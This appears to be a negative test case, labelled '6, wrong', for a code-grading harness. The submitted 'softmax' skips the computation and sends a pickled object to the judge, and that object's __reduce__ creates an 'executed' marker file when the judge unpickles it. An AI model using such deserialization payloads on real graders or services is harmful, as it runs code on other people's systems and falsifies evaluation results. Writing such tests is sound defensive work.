# 6, wrong: writes a pickle into the connection to the judge, in the place of a reply
import pickle


class Runs:
    def __reduce__(self):
        return open, (FOLDER + "/executed", "w")


def softmax(x, dim):
    for channel in channels():
        channel.send(pickle.dumps(Runs()))
    return x
